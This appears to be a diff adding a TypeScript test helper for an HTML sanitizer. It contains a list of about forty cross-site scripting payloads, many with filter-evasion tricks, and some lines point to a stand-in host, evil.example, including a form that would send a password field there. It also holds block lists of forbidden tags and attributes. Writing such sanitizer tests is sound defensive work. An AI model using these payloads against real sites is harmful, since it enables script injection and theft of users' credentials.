@@ -1,0 +1,100 @@
+// Texts that try to become markup, script or addresses, and the look at what became of them.
+
+import assert from "node:assert/strict";
+import sanitizeHtml from "sanitize-html";
+
+export const PAYLOADS = [
+  `"><b id=pwn onclick=pwn()>`,
+  `'><b id=pwn onclick=pwn()>`,
+  "`><b id=pwn onclick=pwn()>",
+  "<script>pwn()</script>",
+  "<scr<script>ipt>pwn()</scr</script>ipt>",
+  "<img src=x onerror=pwn()>",
+  "<svg/onload=pwn()>",
+  "</title><b id=pwn>",
+  "</style></textarea></script><b id=pwn>",
+  "--><b id=pwn>",
+  "]]><b id=pwn>",
+  "<!--<b id=pwn>-->",
+  "&lt;script&gt;pwn()&lt;/script&gt;",
+  "&#60;b id=pwn&#62;",
+  "&amp;lt;b id=pwn&amp;gt;",
+  `<a href="jav&#x09;ascript:pwn()">x</a>`,
+  `<a href=" &#14; javascript:pwn()">x</a>`,
+  `<a href="javascript&colon;pwn()">x</a>`,
+  `<a href="data:text/html,<b id=pwn>">x</a>`,
+  `<p style="position:fixed;inset:0" class="pwn" id=pwn>x</p>`,
+  "<style>@import '//evil.example'</style>",
+  "<base href=//evil.example>",
+  "<link rel=stylesheet href=//evil.example>",
+  "<meta http-equiv=refresh content='0;url=//evil.example'>",
+  `<iframe srcdoc="<script>pwn()</script>"></iframe>`,
+  "<form action=//evil.example><input name=password></form>",
+  `<noscript><p title="</noscript><img src=x onerror=pwn()>">`,
+  "<template><b id=pwn></template>",
+  `<svg></p><style><a id="</style><img src=1 onerror=pwn()>">`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn()&gt;">`,
+  "<video><source onerror=pwn()>",
+  "<b <script>pwn()</script>0>",
+  "<b/id=pwn/onclick=pwn()>",
+  "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>pwn()</x:script>",
+  "<object data=//evil.example>",
+  "<details open ontoggle=pwn()>",
+  "<a href=https://a.test onmouseover=pwn() id=pwn style=x>y</a>",
+  "\u202e<b id=pwn>\u2066",
+  "<\u0000script>pwn()</script>",
+  "<ſcript>pwn()</ſcript>",
+];
+/** All of them in one text. */
+export const ALL = PAYLOADS.join(" ");
+
+const FORBIDDEN = new Set([
+  "script",
+  "style",
+  "iframe",
+  "object",
+  "embed",
+  "math",
+  "base",
+  "template",
+  "video",
+  "audio",
+  "source",
+  "noscript",
+  "mglyph",
+]);
+const URLS = new Set([
+  "href",
+  "src",
+  "action",
+  "content",
+  "poster",
+  "data",
+  "srcset",
+  "formaction",
+]);
+
+/** Every start tag that a browser would see, checked for what only an attacker would have written. */
+export const assertHarmless = (html: string, where: string, isPage: boolean): void => {
+  const look = (tag: string, attributes: Record<string, string>) => {
+    const shown = `${where}: <${tag} ${JSON.stringify(attributes)}>`;
+    assert.ok(!FORBIDDEN.has(tag), shown);
+    assert.ok(
+      isPage || !["svg", "details", "img", "form", "input", "link", "meta"].includes(tag),
+      shown,
+    );
+    for (const [name, value] of Object.entries(attributes)) {
+      assert.ok(!/^on|^style$|^srcdoc$|^http-equiv$/.test(name) && value !== "pwn", shown);
+      if (URLS.has(name) && name !== "content")
+        assert.match(value, /^(?:https?:\/\/|\/(?!\/)|[#?]|acct:|$)/, shown);
+      if (name === "href") assert.doesNotMatch(value, /evil\.example/, shown);
+    }
+    return { tagName: tag, attribs: attributes };
+  };
+  sanitizeHtml(html, {
+    allowedTags: false,
+    allowedAttributes: false,
+    allowVulnerableTags: true,
+    transformTags: { "*": look },
+  });
+};
